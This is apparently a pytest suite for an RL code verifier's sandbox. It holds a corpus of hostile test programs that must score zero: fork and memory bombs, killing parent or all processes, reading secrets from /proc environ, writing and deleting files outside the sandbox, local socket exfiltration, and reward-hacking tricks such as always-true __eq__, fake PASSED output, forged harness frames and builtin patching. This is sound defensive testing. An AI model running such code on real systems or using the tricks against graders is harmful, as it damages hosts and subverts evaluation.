"""Adversarial corpus: hostile programs must score 0 and leave the trainer and host untouched.

Every case runs under small limits (1 s per call, 16 processes, 512 MiB) and the fork bombs
are bounded by construction (at most 2**10 processes even with no limit at all). After
each case we check: reward 0, the trainer process and its parent alive, canary files intact,
no file written outside the sandbox, no process left under the sandbox uids.
"""

from __future__ import annotations

import os
import secrets
import shutil
import socket
import threading
import time
from pathlib import Path

import pytest
from srpo_plugins.verifiers.code import CodeVerifier
from srpo_plugins.verifiers.code.sandbox import pids_of_uid

from srpo.api import PluginContext, SrpoWarning
from srpo.types import Prompt

HAVE_BWRAP = shutil.which("bwrap") is not None
SECRET = "srpo-fake-secret-" + secrets.token_hex(8)
TOKEN = "srpo-token-" + secrets.token_hex(8)
REPO = Path(__file__).resolve().parents[1]
PWN_NAME = "srpo_pwned_" + secrets.token_hex(4)
PWN_PATHS = [Path("/tmp") / PWN_NAME, Path.home() / PWN_NAME, REPO / PWN_NAME]

F4 = {"fn_name": "f", "tests": ["assert f(2) == 4"]}
TRUE = {"fn_name": "f", "tests": ["assert f(0) is True"]}
STDIN = {"stdin_tests": [{"input": "1 2\n", "output": "3\n"}]}

# name -> (reference, program, needs bwrap). Placeholders: CANARY, PORT, PWN_PATHS.
CASES: dict[str, tuple[dict, str, bool]] = {
    "infinite_loop": (F4, "def f(x):\n    while True:\n        pass", False),
    "infinite_loop_at_import": (F4, "while True:\n    pass\ndef f(x):\n    return x * x", False),
    "sleep_forever": (F4, "import time\ndef f(x):\n    time.sleep(10**6)", False),
    "sigterm_ignored_loop": (
        F4,
        "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "def f(x):\n    while True:\n        pass",
        False,
    ),
    "fork_bomb": (
        F4,
        "import os, time\ndef f(x):\n    for _ in range(10):\n        try:\n            os.fork()\n"
        "        except OSError:\n            pass\n    time.sleep(30)\n    return x * x",
        False,
    ),
    "thread_bomb": (
        F4,
        "import threading, time\ndef f(x):\n    for _ in range(1000):\n"
        "        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n"
        "    return x * x",
        False,
    ),
    "memory_bomb": (F4, "def f(x):\n    a = bytearray(8 << 30)\n    return x * x", False),
    "memory_growth": (
        F4,
        "def f(x):\n    a = []\n    while True:\n        a.append(bytearray(10**7))",
        False,
    ),
    "output_flood_calls": (
        F4,
        "import sys\ndef f(x):\n    while True:\n        sys.stdout.write('x' * 65536)",
        False,
    ),
    "output_flood_stdin": (STDIN, "while True:\n    print('3' * 10000)", False),
    "big_file": (
        F4,
        "def f(x):\n    with open('big', 'wb') as fh:\n"
        "        for _ in range(64):\n            fh.write(b'0' * (1 << 20))\n    return x * x",
        False,
    ),
    "recursion_bomb": (
        F4,
        "import sys\nsys.setrecursionlimit(10**8)\ndef f(x):\n    return f(x) + 1",
        False,
    ),
    "huge_int": (F4, "def f(x):\n    return 10 ** (10 ** 10)", False),
    "double_fork_daemon": (
        F4,
        "import os, time\ndef f(x):\n    if os.fork() == 0:\n        os.setsid()\n"
        "        if os.fork() == 0:\n            time.sleep(60)\n            os._exit(0)\n"
        "        os._exit(0)\n    time.sleep(0.2)\n    return 5",
        False,
    ),
    "kill_parent_and_group": (
        F4,
        "import os, signal\ndef f(x):\n    for target in (os.getppid(), 1):\n        try:\n"
        "            os.kill(target, signal.SIGKILL)\n        except OSError:\n            pass\n"
        "    os.killpg(0, signal.SIGKILL)\n    return x * x",
        False,
    ),
    "kill_everything": (
        F4,
        "import os\ndef f(x):\n    for pid in range(1, 5000):\n        try:\n"
        "            os.kill(pid, 9)\n        except OSError:\n            pass\n"
        "    os.kill(-1, 9)\n    return None",
        False,
    ),
    "os_exit_before_tests": (F4, "import os\nprint('PASSED')\nos._exit(0)", False),
    "sys_exit_before_tests": (F4, "import sys\nsys.exit(0)\ndef f(x):\n    return x * x", False),
    "system_exit_in_function": (F4, "def f(x):\n    raise SystemExit(0)", False),
    "os_exit_in_function": (F4, "import os\ndef f(x):\n    os._exit(0)", False),
    "override_builtins": (
        {"fn_name": "f", "tests": ["assert abs(f(2) - 4) < 1e-9", "assert sorted([f(1)]) == [1]"]},
        "import builtins\nbuiltins.abs = lambda v: 0\nbuiltins.sorted = lambda *a, **k: [1]\n"
        "builtins.AssertionError = type('Nope', (Exception,), {})\ndef f(x):\n    return 100",
        False,
    ),
    "eq_always_true_int": (
        F4,
        "class A(int):\n    def __eq__(self, o):\n        return True\n"
        "    __hash__ = int.__hash__\ndef f(x):\n    return A(0)",
        False,
    ),
    "eq_always_true_object": (
        F4,
        "class T:\n    def __eq__(self, o):\n        return True\ndef f(x):\n    return T()",
        False,
    ),
    "fake_success_markers": (
        F4,
        "print('PASSED')\nprint('All tests passed!')\nprint('{\"i\": 0, \"ok\": true}')\n"
        "def f(x):\n    print('OK 1/1 tests passed')\n    return None",
        False,
    ),
    "forge_frames_on_all_fds": (
        F4,
        "import os, json, struct\ndef fr(o):\n    d = json.dumps(o).encode()\n"
        "    return struct.pack('>I', len(d)) + d\n"
        "fake = fr({'init': True}) + fr({'i': 0, 'ok': True, 'value': True, 'passed': True})\n"
        "for fd in range(0, 64):\n    try:\n        os.write(fd, fake)\n    except OSError:\n"
        "        pass\nos._exit(0)",
        False,
    ),
    "tamper_harness_via_gc": (
        F4,
        "import gc\nfor o in gc.get_objects():\n"
        "    if isinstance(o, dict) and '_serve_calls' in o and 'encode' in o:\n"
        "        o['encode'] = lambda v, depth=0: True\n"
        "        o['decode'] = lambda v: {}\ndef f(x):\n    return 0",
        False,
    ),
    "patch_sys_modules": (
        F4,
        "import sys, types\nfor name in ('json', 'struct', 'builtins'):\n"
        '    m = types.ModuleType(name)\n    m.dumps = lambda *a, **k: \'{"i": 0, "ok": true}\'\n'
        "    sys.modules[name] = m\ndef f(x):\n    return 0",
        False,
    ),
    "close_all_fds": (
        F4,
        "import os\nfor fd in range(3, 256):\n    try:\n        os.close(fd)\n    except OSError:\n"
        "        pass\ndef f(x):\n    return 4 if x == 3 else None",
        False,
    ),
    "stdin_exit_zero_no_output": (STDIN, "import sys\nsys.exit(0)", False),
    "stdin_print_passed": (STDIN, "print('PASSED')\nprint('ok')", False),
    "steal_expected_output": (
        {"stdin_tests": [{"input": "x\n", "output": TOKEN + "\n"}]},
        "import os\nfound = []\nfor p in os.listdir('/proc'):\n    for n in ('cmdline', 'environ'):\n"
        "        try:\n            found.append(open(f'/proc/{p}/{n}', 'rb').read())\n"
        "        except OSError:\n            pass\n"
        "for fd in range(3, 64):\n    try:\n        found.append(os.read(fd, 1 << 16))\n"
        "    except OSError:\n        pass\nfor b in found:\n    for w in b.replace(b'\\0', b' ').split():\n"
        "        if w.startswith(b'srpo-token-'):\n            print(w.decode())\nprint('PASSED')",
        False,
    ),
    "read_trainer_secret": (
        {"fn_name": "f", "tests": [f"assert f(0) == {SECRET!r}"]},
        "import os\ndef f(x):\n    v = os.environ.get('SRPO_FAKE_SECRET')\n    if v:\n        return v\n"
        "    for p in os.listdir('/proc'):\n        try:\n"
        "            env = open(f'/proc/{p}/environ', 'rb').read().split(b'\\0')\n"
        "        except OSError:\n            continue\n        for kv in env:\n"
        "            if kv.startswith(b'SRPO_FAKE_SECRET='):\n                return kv.split(b'=', 1)[1].decode()\n"
        "    return 'not found'",
        True,
    ),
    "write_outside_sandbox": (
        TRUE,
        "import os\nPATHS = PWN_PATHS\ndef f(x):\n    ok = False\n    for p in PATHS:\n        try:\n"
        "            with open(p, 'w') as fh:\n                fh.write('pwned')\n"
        "            ok = ok or not p.startswith('/tmp/')  # its /tmp is its own tmpfs\n"
        "        except OSError:\n            pass\n    return ok",
        True,
    ),
    "delete_host_canary": (
        TRUE,
        "import os, shutil\ndef f(x):\n    try:\n        os.remove(CANARY)\n        return True\n"
        "    except OSError:\n        shutil.rmtree(os.path.dirname(CANARY), ignore_errors=True)\n"
        "        return False",
        True,
    ),
    "delete_own_files": (
        F4,
        "import os, shutil\nfor root in ('.', '/sandbox', '/tmp'):\n"
        "    shutil.rmtree(root, ignore_errors=True)\ndef f(x):\n    return None",
        False,
    ),
    "network_exfiltration": (
        {"fn_name": "f", "tests": [f"assert f(0) == {TOKEN!r}"]},
        "import socket\ndef f(x):\n    s = socket.create_connection(('127.0.0.1', PORT), timeout=0.5)\n"
        "    s.sendall(b'exfil')\n    return s.recv(100).decode()",
        True,
    ),
}


class Server:
    """A TCP server on 127.0.0.1 that hands out TOKEN and counts connections."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.sendall(TOKEN.encode())
            conn.close()


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    os.environ["SRPO_FAKE_SECRET"] = SECRET
    canary_dir = tmp_path_factory.mktemp("canary")
    os.chmod(canary_dir, 0o777)  # even world-writable, it must stay out of reach
    canary = canary_dir / "canary.txt"
    canary.write_text("original")
    os.chmod(canary, 0o666)
    server = Server()
    ctx = PluginContext(run_dir=Path("."), seed=0, num_workers=2)
    opts = CodeVerifier.Options(
        test_timeout_s=1.0,
        total_timeout_s=4.0,
        memory_mb=512,
        max_output_kb=64,
        max_processes=16,
    )
    v = CodeVerifier(opts, ctx)
    yield v, canary, server
    v.close()
    server.sock.close()
    os.environ.pop("SRPO_FAKE_SECRET", None)


def _program(src: str, canary: Path, port: int) -> str:
    src = src.replace("PWN_PATHS", repr([str(p) for p in PWN_PATHS]))
    src = src.replace("CANARY", repr(str(canary))).replace("PORT", str(port))
    return f"```python\n{src}\n```"


def sandbox_uids(v: CodeVerifier) -> list[int]:
    slots = v.backend.uid_slots
    return [uid for uid, _ in slots._all] if slots else []


def assert_no_survivors(v: CodeVerifier) -> None:
    uids = sandbox_uids(v)
    left: list[int] = []
    for _ in range(100):
        left = [p for u in uids for p in pids_of_uid(u)]
        if not left:
            return
        time.sleep(0.02)
    raise AssertionError(f"processes survived the sandbox: {left}")


def test_corpus_is_big_enough():
    assert len(CASES) >= 25


@pytest.mark.parametrize("name", sorted(CASES))
def test_adversarial(env, name):
    v, canary, server = env
    ref, src, needs_bwrap = CASES[name]
    if needs_bwrap and v.backend.name != "bwrap":
        pytest.skip("isolation case needs the bwrap backend")
    ppid, pgid = os.getppid(), os.getpgid(0)
    t = time.monotonic()
    (s,) = v.score([Prompt(0, "code", "q", ref)], [_program(src, canary, server.port)])
    elapsed = time.monotonic() - t
    assert s.reward == 0.0 and not s.correct, (s, v.last_details)
    assert s.error is None, s.error  # a hostile program is not a verifier error
    assert elapsed < 4.0 + 2.0  # the total budget holds
    # the trainer and the host are untouched
    assert os.getppid() == ppid and os.getpgid(0) == pgid
    os.kill(ppid, 0)
    assert canary.read_text() == "original"
    for p in PWN_PATHS:
        assert not p.exists(), p
    assert server.connections == 0
    assert os.environ["SRPO_FAKE_SECRET"] == SECRET
    assert_no_survivors(v)
    details = v.last_details[0]
    if name == "network_exfiltration" and details is not None:  # failed for the right reason
        why = str(details.reasons).lower()
        assert "refused" in why or "unreachable" in why, details


def test_positive_controls(env):
    """The same channels carry real answers: the corpus fails for the right reason."""
    v, canary, _ = env
    ref = {"fn_name": "f", "tests": ["assert f(2) == 4"]}
    progs = [
        "def f(x):\n    return x * x",
        "import os\ndef f(x):\n    return len(os.listdir('.')) + 4",  # own dir, empty
        "def f(x):\n    open('scratch', 'w').write('ok')\n    return len(open('scratch').read()) + 2",
        # the stdlib imports in the sandbox (an unimportable socket would fake the net case)
        "import socket, threading, subprocess, json, decimal\ndef f(x):\n    return x * x",
    ]
    s = v.score([Prompt(0, "code", "q", ref)] * 4, [_program(p, canary, 0) for p in progs])
    assert [x.reward for x in s] == [1.0] * 4, v.last_details


def test_bwrap_is_the_default_backend(env):
    if not HAVE_BWRAP:
        pytest.skip("bubblewrap not installed")
    assert env[0].backend.name == "bwrap"


@pytest.mark.skipif(os.geteuid() != 0, reason="the fallback drops to a slot uid only as root")
@pytest.mark.parametrize(
    "name", ["infinite_loop", "fork_bomb", "double_fork_daemon", "kill_everything"]
)
def test_rlimit_fallback(name, tmp_path):
    ctx = PluginContext(run_dir=tmp_path, seed=0, num_workers=1)
    opts = CodeVerifier.Options(
        backend="rlimit", test_timeout_s=1.0, total_timeout_s=3.0, uid_base=1_500_020_000
    )
    with pytest.warns(SrpoWarning, match="bubblewrap unavailable"):
        v = CodeVerifier(opts, ctx)
    try:
        ref, src, _ = CASES[name]
        (s,) = v.score([Prompt(0, "code", "q", ref)], [_program(src, tmp_path / "c", 0)])
        assert s.reward == 0.0
        assert_no_survivors(v)
        os.kill(os.getppid(), 0)
    finally:
        v.close()
